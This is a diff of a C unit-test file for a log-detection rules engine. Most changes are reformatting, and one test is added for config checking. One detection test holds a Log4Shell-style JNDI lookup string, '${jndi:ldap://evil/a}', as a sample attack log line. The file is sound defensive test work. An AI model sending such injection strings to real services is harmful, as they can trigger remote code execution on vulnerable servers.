@@ -16,6 +16,7 @@
 #include <time.h>
 
 #include "../../lib/rules_internal.h"
+#include "soc/config.h"
 #include "soc/rules.h"
 #include "soc/syslog.h"
 #include "testutil.h"
@@ -70,23 +71,28 @@ static void test_pattern_kinds(void **state) {
   (void)state;
   soc_diag *d = soc_diag_new();
   soc_rules *rs = load_text(
-      "- { id: C, title: t, match: { all: [ { contains: 'ab c' } ] },\n" INCIDENT "}\n"
-      "- { id: Ci, title: t, match: { all: [ { contains: 'AB C', nocase: true } ] },\n"
-      INCIDENT "}\n"
-      "- { id: S, title: t, match: { all: [ { startswith: 'Begin' } ] },\n" INCIDENT "}\n"
-      "- { id: Si, title: t, match: { all: [ { startswith: 'begin', nocase: true } ] },\n"
-      INCIDENT "}\n"
-      "- { id: E, title: t, match: { all: [ { endswith: 'End' } ] },\n" INCIDENT "}\n"
-      "- { id: Ei, title: t, match: { all: [ { endswith: 'END', nocase: yes } ] },\n"
-      INCIDENT "}\n"
-      "- { id: Q, title: t, match: { all: [ { equals: 'exact' } ] },\n" INCIDENT "}\n"
-      "- { id: Qi, title: t, match: { all: [ { equals: 'EXACT', nocase: true } ] },\n"
-      INCIDENT "}\n"
-      "- { id: R, title: t, match: { all: [ { regex: 'x[0-9]+y' } ] },\n" INCIDENT "}\n"
-      "- { id: Ri, title: t, match: { all: [ { regex: 'X[0-9]+Y', nocase: true } ] },\n"
-      INCIDENT "}\n"
-      "- { id: H, title: t, match: { all: [ { equals: 'h1', field: host.name } ] },\n"
-      INCIDENT "}\n",
+      "- { id: C, title: t, match: { all: [ { contains: 'ab c' } ] },\n" INCIDENT
+      "}\n"
+      "- { id: Ci, title: t, match: { all: [ { contains: 'AB C', nocase: true } ] },\n" INCIDENT
+      "}\n"
+      "- { id: S, title: t, match: { all: [ { startswith: 'Begin' } ] },\n" INCIDENT
+      "}\n"
+      "- { id: Si, title: t, match: { all: [ { startswith: 'begin', nocase: true } ] },\n" INCIDENT
+      "}\n"
+      "- { id: E, title: t, match: { all: [ { endswith: 'End' } ] },\n" INCIDENT
+      "}\n"
+      "- { id: Ei, title: t, match: { all: [ { endswith: 'END', nocase: yes } ] },\n" INCIDENT
+      "}\n"
+      "- { id: Q, title: t, match: { all: [ { equals: 'exact' } ] },\n" INCIDENT
+      "}\n"
+      "- { id: Qi, title: t, match: { all: [ { equals: 'EXACT', nocase: true } ] },\n" INCIDENT
+      "}\n"
+      "- { id: R, title: t, match: { all: [ { regex: 'x[0-9]+y' } ] },\n" INCIDENT
+      "}\n"
+      "- { id: Ri, title: t, match: { all: [ { regex: 'X[0-9]+Y', nocase: true } ] },\n" INCIDENT
+      "}\n"
+      "- { id: H, title: t, match: { all: [ { equals: 'h1', field: host.name } ] },\n" INCIDENT
+      "}\n",
       d);
   soc_match_ctx *ctx = soc_match_ctx_new(rs);
   soc_event *ev = soc_event_new();
@@ -119,9 +125,10 @@ static void test_pattern_kinds(void **state) {
 static void test_text_taken_as_written(void **state) {
   (void)state;
   soc_diag *d = soc_diag_new();
-  soc_rules *rs = load_text("- id: L\n  title: t\n  match:\n    any:\n"
-                            "      - contains: '${jndi:ldap://'\n" INCIDENT,
-                            d);
+  soc_rules *rs = load_text(
+      "- id: L\n  title: t\n  match:\n    any:\n"
+      "      - contains: '${jndi:ldap://'\n" INCIDENT,
+      d);
   soc_match_ctx *ctx = soc_match_ctx_new(rs);
   soc_event *ev = soc_event_new();
   assert_string_equal(match_line(rs, ctx, ev, "GET /?x=${jndi:ldap://evil/a}"), "L");
@@ -141,8 +148,8 @@ static void test_captures(void **state) {
       "- id: SSH\n  title: t\n  match:\n    program: [ sshd ]\n    any:\n"
       "      - regex: 'Failed password for (?:invalid user )?(?<user>\\S+) from "
       "(?<ip>\\S+) port (?<port>\\d+)(?: (?<proto>ssh\\d))?'\n"
-      "    captures: { user: user.name, ip: source.ip, port: source.port, proto: ssh.proto }\n"
-      INCIDENT
+      "    captures: { user: user.name, ip: source.ip, port: source.port, proto: ssh.proto "
+      "}\n" INCIDENT
       /* where sees the staged capture; the failed rule leaves no trace */
       "- id: NOROOT\n  title: t\n  match:\n    all: [ { regex: 'for (?<u>\\w+) from' } ]\n"
       "    captures: { u: related.user }\n"
@@ -190,22 +197,21 @@ static void test_where(void **state) {
   soc_diag *d = soc_diag_new();
   /* the message is "k=v k=v ..."; captures make fields to test */
   soc_rules *rs = load_text(
-      "- id: EQ\n  title: t\n  match:\n    where: [ { field: process.name, equals: app } ]\n"
-      INCIDENT
-      "- id: IN\n  title: t\n  match:\n    where: [ { field: host.name, in: [ h1, h2 ] } ]\n"
-      INCIDENT
-      "- id: NOTIN\n  title: t\n  match:\n    where: [ { field: host.name, not_in: [ h1 ] } ]\n"
-      INCIDENT
-      "- id: EX\n  title: t\n  match:\n    where: [ { field: process.pid, exists: true } ]\n"
-      INCIDENT
-      "- id: NEX\n  title: t\n  match:\n    where: [ { field: process.pid, exists: false } ]\n"
-      INCIDENT
+      "- id: EQ\n  title: t\n  match:\n    where: [ { field: process.name, equals: app } "
+      "]\n" INCIDENT
+      "- id: IN\n  title: t\n  match:\n    where: [ { field: host.name, in: [ h1, h2 ] } "
+      "]\n" INCIDENT
+      "- id: NOTIN\n  title: t\n  match:\n    where: [ { field: host.name, not_in: [ h1 ] } "
+      "]\n" INCIDENT
+      "- id: EX\n  title: t\n  match:\n    where: [ { field: process.pid, exists: true } "
+      "]\n" INCIDENT
+      "- id: NEX\n  title: t\n  match:\n    where: [ { field: process.pid, exists: false } "
+      "]\n" INCIDENT
       "- id: CIDR\n  title: t\n  match:\n"
       "    all: [ { regex: 'ip=(?<ip>\\S+)' } ]\n    captures: { ip: source.ip }\n"
-      "    where: [ { field: source.ip, cidr: [ 10.0.0.0/8, '2001:db8::/32', 192.0.2.7 ] } ]\n"
-      INCIDENT
-      "- id: GT\n  title: t\n  match:\n    where: [ { field: process.pid, gt: 100 } ]\n"
-      INCIDENT
+      "    where: [ { field: source.ip, cidr: [ 10.0.0.0/8, '2001:db8::/32', 192.0.2.7 ] } "
+      "]\n" INCIDENT
+      "- id: GT\n  title: t\n  match:\n    where: [ { field: process.pid, gt: 100 } ]\n" INCIDENT
       "- id: LT\n  title: t\n  match:\n"
       "    all: [ { regex: 'n=(?<n>\\S+)' } ]\n    captures: { n: x.n }\n"
       "    where: [ { field: x.n, lt: 2.5 } ]\n" INCIDENT
@@ -226,14 +232,12 @@ static void test_where(void **state) {
   assert_string_equal(
       match_line(rs, ctx, ev, "<14>Nov 25 07:00:00 h9 other: ip=2001:db8::1 n=-1e3"),
       "NOTIN,NEX,CIDR,LT,ANYOF,NOT");
-  assert_string_equal(
-      match_line(rs, ctx, ev, "<14>Nov 25 07:00:00 h2 app[100]: ip=192.0.2.7 n=x"),
-      "EQ,IN,NOTIN,EX,CIDR,NOT");
+  assert_string_equal(match_line(rs, ctx, ev, "<14>Nov 25 07:00:00 h2 app[100]: ip=192.0.2.7 n=x"),
+                      "EQ,IN,NOTIN,EX,CIDR,NOT");
   assert_string_equal(match_line(rs, ctx, ev, "<14>Nov 25 07:00:00 h2 app: ip=192.0.2.8"),
                       "EQ,IN,NOTIN,NEX,NOT");
   /* not_in holds for a missing field; every positive operator fails */
-  assert_string_equal(match_line(rs, ctx, ev, "raw line ip=::ffff:10.9.9.9"),
-                      "NOTIN,NEX,CIDR,NOT");
+  assert_string_equal(match_line(rs, ctx, ev, "raw line ip=::ffff:10.9.9.9"), "NOTIN,NEX,CIDR,NOT");
   soc_event_free(ev);
   soc_match_ctx_free(ctx);
   soc_rules_free(rs);
@@ -246,14 +250,12 @@ static void test_filters_and_blocks(void **state) {
   (void)state;
   soc_diag *d = soc_diag_new();
   soc_rules *rs = load_text(
-      "- id: P\n  title: t\n  match: { program: [ sshd, sudo ], all: [ { contains: x } ] }\n"
-      INCIDENT
-      "- id: F\n  title: t\n  match: { facility: [ auth, authpriv ], all: [ { contains: x } ] }\n"
-      INCIDENT
-      "- id: ANY\n  title: t\n  match: { any: [ { contains: aa }, { regex: 'b+c' } ] }\n"
-      INCIDENT
-      "- id: ALL\n  title: t\n  match: { all: [ { contains: aa }, { regex: 'b+c' } ] }\n"
-      INCIDENT
+      "- id: P\n  title: t\n  match: { program: [ sshd, sudo ], all: [ { contains: x } ] "
+      "}\n" INCIDENT
+      "- id: F\n  title: t\n  match: { facility: [ auth, authpriv ], all: [ { contains: x } ] "
+      "}\n" INCIDENT
+      "- id: ANY\n  title: t\n  match: { any: [ { contains: aa }, { regex: 'b+c' } ] }\n" INCIDENT
+      "- id: ALL\n  title: t\n  match: { all: [ { contains: aa }, { regex: 'b+c' } ] }\n" INCIDENT
       "- id: NONE\n  title: t\n  match: { all: [ { contains: x } ], none: [ { contains: aa },"
       " { regex: '^z' } ] }\n" INCIDENT
       "- id: MIX\n  title: t\n  match: { all: [ { contains: x } ], any: [ { equals: 'x1' },"
@@ -324,12 +326,12 @@ static const struct broken {
     {"- id: R1\n  title: t\n  match:\n    any: [ { regex: 'u=(?<f>\\w+)' } ]\n"
      "    captures: { f: log.syslog.facility.name }\n" INCIDENT,
      "5:20: error: R1.match.captures.f: rules can not set 'log.syslog.facility.name'"},
-    {"- id: R1\n  title: t\n  match:\n    where: [ { field: host.name, equals: a, in: [b] } ]\n"
-     INCIDENT,
+    {"- id: R1\n  title: t\n  match:\n    where: [ { field: host.name, equals: a, in: [b] } "
+     "]\n" INCIDENT,
      "4:14: error: R1.match.where[0]: expected exactly one of equals, in, not_in, exists, "
      "cidr, gt, lt, any_of or not, got 2"},
-    {"- id: R1\n  title: t\n  match:\n    where: [ { field: source.ip, cidr: [ 10.0.0.0/33 ] } ]\n"
-     INCIDENT,
+    {"- id: R1\n  title: t\n  match:\n    where: [ { field: source.ip, cidr: [ 10.0.0.0/33 ] } "
+     "]\n" INCIDENT,
      "4:42: error: R1.match.where[0].cidr: '10.0.0.0/33' is not a network"},
     {"- id: R1\n  title: t\n  match:\n    where: [ { field: source.port, gt: lots } ]\n" INCIDENT,
      "4:40: error: R1.match.where[0].gt: expected a number, got 'lots'"},
@@ -348,15 +350,12 @@ static const struct broken {
     {"- id: R1\n  title: t\n  match: { all: [ { contains: x } ] }\n"
      "  correlate: { after: { rule: NOPE, within: 1h } }\n" INCIDENT,
      "4:31: error: R1.correlate.after.rule: no loaded rule has id 'NOPE'"},
-    {"- id: R1\n  title: t\n  match: { facility: [ authh ], all: [ { contains: x } ] }\n"
-     INCIDENT,
+    {"- id: R1\n  title: t\n  match: { facility: [ authh ], all: [ { contains: x } ] }\n" INCIDENT,
      "3:24: error: R1.match.facility: unknown facility 'authh'; did you mean 'auth'?"},
     {"- id: R1\n  title: t\n  mitre: [ T11 ]\n  match: { all: [ { contains: x } ] }\n" INCIDENT,
      "3:12: error: R1.mitre: 'T11' is not an ATT&CK technique id"},
-    {"- id: R1\n  title: t\n" INCIDENT,
-     "1:3: error: R1: missing required key 'match'"},
-    {"- id: R1\n  title: t\n  match: { }\n" INCIDENT,
-     "3:10: error: R1.match: nothing to match"},
+    {"- id: R1\n  title: t\n" INCIDENT, "1:3: error: R1: missing required key 'match'"},
+    {"- id: R1\n  title: t\n  match: { }\n" INCIDENT, "3:10: error: R1.match: nothing to match"},
     {"- id: R1\n  title: t\n  match: { all: [ { contains: x } ] }\n"
      "  correlate: { group_by: [ 'source ip' ], count: 2, within: 1m }\n" INCIDENT,
      "4:26: error: R1.correlate.group_by: 'source ip' is not a field name"},
@@ -368,8 +367,8 @@ static const struct broken {
     {"- id: R1\n  id: R2\n", "2:3: error: duplicate key 'id' (first at line 1)"},
     {"- id: R1\n  title: t\n  match: { all: [ { contains: x, nocase: maybe } ] }\n" INCIDENT,
      "3:42: error: R1.match.all[0].nocase: expected true or false, got 'maybe'"},
-    {"- id: R1\n  title: t\n  match: { all: [ { regex: '(?<u>a)' } ], captures: { u: 'x..y' } }\n"
-     INCIDENT,
+    {"- id: R1\n  title: t\n  match: { all: [ { regex: '(?<u>a)' } ], captures: { u: 'x..y' } "
+     "}\n" INCIDENT,
      "3:58: error: R1.match.captures.u: 'x..y' is not a field name"},
     /* a good rule before a bad one: the whole file is refused */
     {"- id: OKFIRST\n  title: t\n  match: { all: [ { contains: x } ] }\n" INCIDENT
@@ -384,8 +383,10 @@ static void test_broken_files(void **state) {
   const char *files[64];
   assert_true(n + 1 <= 64);
   assert_true(n >= 20);
-  snprintf(paths[0], sizeof paths[0], "%s", write_file("good.yaml",
-           "- id: GOOD\n  title: t\n  match: { all: [ { contains: fine } ] }\n" INCIDENT));
+  snprintf(
+      paths[0], sizeof paths[0], "%s",
+      write_file("good.yaml",
+                 "- id: GOOD\n  title: t\n  match: { all: [ { contains: fine } ] }\n" INCIDENT));
   files[0] = paths[0];
   for (size_t i = 0; i < n; i++) {
     char name[32];
@@ -430,17 +431,21 @@ static void test_broken_files(void **state) {
 static void test_cross_file(void **state) {
   (void)state;
   char a[256], b[256], c[256], e[256];
-  snprintf(a, sizeof a, "%s", write_file("x1.yaml",
-           "- id: A\n  title: t\n  match: { all: [ { contains: a } ] }\n" INCIDENT));
-  snprintf(b, sizeof b, "%s", write_file("x2.yaml",
-           "- id: B\n  title: t\n  match: { all: [ { contains: b } ] }\n" INCIDENT
-           "- id: A\n  title: t\n  match: { all: [ { contains: a2 } ] }\n" INCIDENT));
-  snprintf(c, sizeof c, "%s", write_file("x3.yaml",
-           "- id: C\n  title: t\n  match: { all: [ { contains: c } ] }\n"
-           "  correlate: { after: { rule: B, within: 1h } }\n" INCIDENT));
-  snprintf(e, sizeof e, "%s", write_file("x4.yaml",
-           "- id: D\n  title: t\n  match: { all: [ { contains: d } ] }\n"
-           "  correlate: { after: { rule: A, within: 1h } }\n" INCIDENT));
+  snprintf(a, sizeof a, "%s",
+           write_file("x1.yaml",
+                      "- id: A\n  title: t\n  match: { all: [ { contains: a } ] }\n" INCIDENT));
+  snprintf(b, sizeof b, "%s",
+           write_file("x2.yaml",
+                      "- id: B\n  title: t\n  match: { all: [ { contains: b } ] }\n" INCIDENT
+                      "- id: A\n  title: t\n  match: { all: [ { contains: a2 } ] }\n" INCIDENT));
+  snprintf(c, sizeof c, "%s",
+           write_file("x3.yaml",
+                      "- id: C\n  title: t\n  match: { all: [ { contains: c } ] }\n"
+                      "  correlate: { after: { rule: B, within: 1h } }\n" INCIDENT));
+  snprintf(e, sizeof e, "%s",
+           write_file("x4.yaml",
+                      "- id: D\n  title: t\n  match: { all: [ { contains: d } ] }\n"
+                      "  correlate: { after: { rule: A, within: 1h } }\n" INCIDENT));
   const char *files[] = {a, b, c, e};
   soc_diag *d = soc_diag_new();
   soc_rules *rs = NULL;
@@ -512,9 +517,10 @@ static void test_accessors(void **state) {
   assert_true(soc_rule_anchored(r));
   soc_rules_free(rs);
   /* defaults: leak from the asset, asset_from, no correlation */
-  rs = load_text("- id: D\n  title: t\n  match: { all: [ { contains: x } ] }\n"
-                 "  incident: { category: other, impact: leak }\n",
-                 d);
+  rs = load_text(
+      "- id: D\n  title: t\n  match: { all: [ { contains: x } ] }\n"
+      "  incident: { category: other, impact: leak }\n",
+      d);
   r = soc_rules_at(rs, 0);
   assert_true(soc_rule_incident_of(r)->data_from_asset);
   assert_int_equal(soc_rule_incident_of(r)->nasset_from, 3);
@@ -571,7 +577,7 @@ static void test_literals(void **state) {
   assert_string_equal(lits("(?!abc)de", 0), "de");
   assert_string_equal(lits("(?<=abcd)e", 0), "e");
   assert_string_equal(lits("a(*ACCEPT)bcdef", 0), ""); /* verbs: give up */
-  assert_string_equal(lits("(?x) a b c", 0), "");     /* extended: give up */
+  assert_string_equal(lits("(?x) a b c", 0), "");      /* extended: give up */
   assert_string_equal(lits("(?C1)abc", 0), "");
   /* caseless: k, s and non-ASCII are not literals (Unicode case folding) */
   assert_string_equal(lits("Kernel panic", 1), "ernel panic");
@@ -596,9 +602,22 @@ static uint32_t rnd(uint32_t n) {
   return (uint32_t)((rng_state >> 33) % n);
 }
 
-static const char *const pieces[] = {"a", "b", "c", "k", "s", "A", "K", "S", ":", " ", "ab", "ks",
-                                     "\xc5\xbf" /* U+017F */, "\xe2\x84\xaa" /* U+212A */,
-                                     "1", "x"};
+static const char *const pieces[] = {"a",
+                                     "b",
+                                     "c",
+                                     "k",
+                                     "s",
+                                     "A",
+                                     "K",
+                                     "S",
+                                     ":",
+                                     " ",
+                                     "ab",
+                                     "ks",
+                                     "\xc5\xbf" /* U+017F */,
+                                     "\xe2\x84\xaa" /* U+212A */,
+                                     "1",
+                                     "x"};
 #define NPIECES (sizeof pieces / sizeof pieces[0])
 
 static void gen_text(char *out, size_t cap, size_t maxparts) {
@@ -609,11 +628,13 @@ static void gen_text(char *out, size_t cap, size_t maxparts) {
 
 static void gen_regex(char *out, size_t cap, int depth) {
   static const char *const atoms[] = {
-      "a", "b", "ks", "K", "s", "\\.", "\\x61", "\\x{6B}", "[ab]", "[^a]", "[]k]", ".", "\\d",
-      "\\s", "\\w", "\\b", "\\Qa.b\\E", "(?i)", "\xc5\xbf", "\xe2\x84\xaa", ":", " ", "\\Sx",
-      "(?=a)", "(?!b)", "(?<=k)", "a{,2}", "\\E", "[[:alpha:]]", "\\p{L}", "1"};
-  static const char *const quants[] = {"", "", "", "", "?", "*", "+", "{0,2}", "{1,2}", "{2}",
-                                       "+?", "*+", "??"};
+      "a",           "b",      "ks",        "K",     "s",        "\\.",          "\\x61",
+      "\\x{6B}",     "[ab]",   "[^a]",      "[]k]",  ".",        "\\d",          "\\s",
+      "\\w",         "\\b",    "\\Qa.b\\E", "(?i)",  "\xc5\xbf", "\xe2\x84\xaa", ":",
+      " ",           "\\Sx",   "(?=a)",     "(?!b)", "(?<=k)",   "a{,2}",        "\\E",
+      "[[:alpha:]]", "\\p{L}", "1"};
+  static const char *const quants[] = {"",      "",      "",    "",   "?",  "*", "+",
+                                       "{0,2}", "{1,2}", "{2}", "+?", "*+", "??"};
   size_t n = 1 + rnd(4);
   for (size_t i = 0; i < n && strlen(out) + 48 < cap; i++) {
     uint32_t k = rnd(10);
@@ -669,11 +690,13 @@ static int oracle(const plain_rule *p, const char *v) {
       for (size_t i = 0; i + lp <= lv; i++)
         if (p->nocase ? ieq(v + i, p->text, lp) : !memcmp(v + i, p->text, lp)) return 1;
       return 0;
-    case 1: return lv >= lp && (p->nocase ? ieq(v, p->text, lp) : !memcmp(v, p->text, lp));
+    case 1:
+      return lv >= lp && (p->nocase ? ieq(v, p->text, lp) : !memcmp(v, p->text, lp));
     case 2:
       return lv >= lp &&
              (p->nocase ? ieq(v + lv - lp, p->text, lp) : !memcmp(v + lv - lp, p->text, lp));
-    default: return lv == lp && (p->nocase ? ieq(v, p->text, lp) : !memcmp(v, p->text, lp));
+    default:
+      return lv == lp && (p->nocase ? ieq(v, p->text, lp) : !memcmp(v, p->text, lp));
   }
 }
 
@@ -760,8 +783,7 @@ static void random_round(uint64_t seed) {
       for (size_t i = 0; i < b.n; i++) {
         size_t j = 0;
         while (j < a.n && a.idx[j] != b.idx[i]) j++;
-        if (j == a.n)
-          fprintf(stderr, "missed: rule %zu on '%s'\n", b.idx[i], line);
+        if (j == a.n) fprintf(stderr, "missed: rule %zu on '%s'\n", b.idx[i], line);
       }
       fail_msg("prefilter differs (seed %llu)", (unsigned long long)seed);
     }
@@ -778,8 +800,8 @@ static void random_round(uint64_t seed) {
   soc_match_stats fs, ss;
   soc_match_ctx_stats(fast, &fs);
   soc_match_ctx_stats(slow, &ss);
-  assert_true(total > 0);                       /* the round tested something */
-  assert_true(fs.candidates < ss.candidates);   /* and the prefilter skipped work */
+  assert_true(total > 0);                     /* the round tested something */
+  assert_true(fs.candidates < ss.candidates); /* and the prefilter skipped work */
   soc_event_free(ev);
   soc_match_ctx_free(fast);
   soc_match_ctx_free(slow);
@@ -817,13 +839,14 @@ static void test_unanchored_warning(void **state) {
   soc_diag *d = soc_diag_new();
   soc_rules *rs = NULL;
   soc_rules_stats st;
-  const char *text = "- id: U\n  title: t\n  match:\n    any: [ { regex: '\\d+\\s\\d+' } ]\n"
-                     INCIDENT
-                     "- id: A\n  title: t\n  match:\n    all: [ { regex: '\\d+' }, { contains: "
-                     "x } ]\n" INCIDENT;
+  const char *text =
+      "- id: U\n  title: t\n  match:\n    any: [ { regex: '\\d+\\s\\d+' } ]\n" INCIDENT
+      "- id: A\n  title: t\n  match:\n    all: [ { regex: '\\d+' }, { contains: "
+      "x } ]\n" INCIDENT;
   assert_int_equal(soc_rules_load_buffer("w.yaml", text, strlen(text), &rs, &st, d), 0);
-  assert_diag_contains(d, "w.yaml:4:21: warning: U: regex '\\d+\\s\\d+' has no literal it "
-                          "requires, so this rule is evaluated on every line");
+  assert_diag_contains(d,
+                       "w.yaml:4:21: warning: U: regex '\\d+\\s\\d+' has no literal it "
+                       "requires, so this rule is evaluated on every line");
   assert_false(soc_diag_contains(d, "warning: A:")); /* anchored by its contains */
   assert_int_equal(st.unanchored, 1);
   assert_int_equal(st.warnings, 1);
@@ -842,9 +865,10 @@ static void test_unanchored_warning(void **state) {
 static void test_regex_limit(void **state) {
   (void)state;
   soc_diag *d = soc_diag_new();
-  soc_rules *rs = load_text("- id: BAD\n  title: t\n  match:\n    any: [ { regex: "
-                            "'^(a|aa)+$' } ]\n" INCIDENT,
-                            d);
+  soc_rules *rs = load_text(
+      "- id: BAD\n  title: t\n  match:\n    any: [ { regex: "
+      "'^(a|aa)+$' } ]\n" INCIDENT,
+      d);
   soc_match_ctx *ctx = soc_match_ctx_new(rs);
   soc_event *ev = soc_event_new();
   char line[200];
@@ -865,10 +889,10 @@ static void test_regex_limit(void **state) {
 static void test_ctx_mismatch(void **state) {
   (void)state;
   soc_diag *d = soc_diag_new();
-  soc_rules *a = load_text("- { id: A, title: t, match: { all: [ { contains: x } ] },\n"
-                           INCIDENT "}\n", d);
-  soc_rules *b = load_text("- { id: B, title: t, match: { all: [ { contains: x } ] },\n"
-                           INCIDENT "}\n", d);
+  soc_rules *a =
+      load_text("- { id: A, title: t, match: { all: [ { contains: x } ] },\n" INCIDENT "}\n", d);
+  soc_rules *b =
+      load_text("- { id: B, title: t, match: { all: [ { contains: x } ] },\n" INCIDENT "}\n", d);
   soc_match_ctx *ctx = soc_match_ctx_new(a);
   soc_event *ev = soc_event_new();
   assert_int_equal(soc_rules_match(b, ctx, ev, NULL, NULL), -EINVAL);
@@ -883,15 +907,50 @@ static void test_ctx_mismatch(void **state) {
   soc_diag_free(d);
 }
 
+/* --check-config goes through the same loader, so it lists rule errors
+ * (not only YAML syntax) with their positions, and rule warnings. */
+static void test_check_config(void **state) {
+  (void)state;
+  write_file("cfg-bad.yaml",
+             "- id: R1\n  title: t\n  match: { all: [ { regex: 'a(' } ] }\n" INCIDENT);
+  write_file("cfg-warn.yaml",
+             "- id: R2\n  title: t\n  match: { all: [ { regex: '\\d+' } ] }\n" INCIDENT);
+  const char *path = write_file("cfg.yaml",
+                                "agent: { id: web01, agency: x, authority: 36 }\n"
+                                "contacts: [ {name: a, phone: '1'}, {name: b, email: b@x.tw} ]\n"
+                                "kafka: { brokers: '127.0.0.1:9092' }\n"
+                                "rules: { log: [ 'cfg-*.yaml' ] }\n");
+  char expect[400];
+  soc_diag *d = soc_diag_new();
+  soc_config *cfg = NULL;
+  assert_int_equal(soc_config_load(path, SOC_CONFIG_CHECK_REFERENCES, &cfg, d), -EINVAL);
+  snprintf(expect, sizeof expect,
+           "%s/cfg-bad.yaml:3:28: error: R1.match.all[0].regex: missing closing parenthesis",
+           test_dir());
+  assert_diag_contains(d, expect);
+  snprintf(expect, sizeof expect, "%s/cfg-warn.yaml:3:28: warning: R2: regex", test_dir());
+  assert_diag_contains(d, expect);
+  soc_config_free(cfg);
+  soc_diag_free(d);
+}
+
 int main(void) {
   const struct CMUnitTest tests[] = {
-      cmocka_unit_test(test_pattern_kinds),     cmocka_unit_test(test_text_taken_as_written),
-      cmocka_unit_test(test_captures),          cmocka_unit_test(test_where),
-      cmocka_unit_test(test_filters_and_blocks), cmocka_unit_test(test_broken_files),
-      cmocka_unit_test(test_cross_file),        cmocka_unit_test(test_accessors),
-      cmocka_unit_test(test_literals),          cmocka_unit_test(test_prefilter_random),
-      cmocka_unit_test(test_rewrite_scanned_field), cmocka_unit_test(test_unanchored_warning),
-      cmocka_unit_test(test_regex_limit),       cmocka_unit_test(test_ctx_mismatch),
+      cmocka_unit_test(test_pattern_kinds),
+      cmocka_unit_test(test_text_taken_as_written),
+      cmocka_unit_test(test_captures),
+      cmocka_unit_test(test_where),
+      cmocka_unit_test(test_filters_and_blocks),
+      cmocka_unit_test(test_broken_files),
+      cmocka_unit_test(test_cross_file),
+      cmocka_unit_test(test_accessors),
+      cmocka_unit_test(test_literals),
+      cmocka_unit_test(test_prefilter_random),
+      cmocka_unit_test(test_rewrite_scanned_field),
+      cmocka_unit_test(test_unanchored_warning),
+      cmocka_unit_test(test_regex_limit),
+      cmocka_unit_test(test_ctx_mismatch),
+      cmocka_unit_test(test_check_config),
   };
   return cmocka_run_group_tests(tests, NULL, NULL);
 }
